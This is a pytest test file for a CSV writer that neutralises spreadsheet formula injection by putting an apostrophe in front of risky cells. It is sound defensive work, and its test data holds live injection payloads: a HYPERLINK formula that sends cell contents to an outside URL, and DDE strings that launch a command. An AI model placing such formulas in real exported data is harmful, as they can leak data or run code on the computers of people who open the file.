from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.synthetic.write import write_csv as synthetic_write_csv
from pipelines.workspace.csv_cells import STARTS, plain_cell, write_csv


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org?"&A1,"x")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        '"=1+1',
        "'=1+1",
        "＝1+1",
        "-",
    ],
)
def test_a_cell_that_a_spreadsheet_would_compute_is_written_behind_an_apostrophe(text: str) -> None:
    assert plain_cell(text) == f"'{text}"


@pytest.mark.parametrize("cell", [-1, -0.5, 3, None, "-1", "+0.5", "-1e-3", "Cough", "a=b", "", "1-2", "P-7"])
def test_numbers_and_plain_text_stay_as_they_are(cell: object) -> None:
    assert plain_cell(cell) == cell


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\r"), max_size=12), min_size=1, max_size=4))
def test_no_cell_of_a_written_file_begins_a_formula(tmp_path_factory: pytest.TempPathFactory, cells: list[str]) -> None:
    path = Path(tmp_path_factory.mktemp("csv")) / "t.csv"
    write_csv(path, [cells])
    with path.open(encoding="utf-8", newline="") as stream:
        (read,) = [*csv.reader(stream)] or [[""]]
    for cell in read:
        assert not cell.startswith(STARTS) or plain_cell(cell) == cell


def test_the_tables_of_the_synthetic_hospital_are_written_in_this_way() -> None:
    assert synthetic_write_csv is write_csv
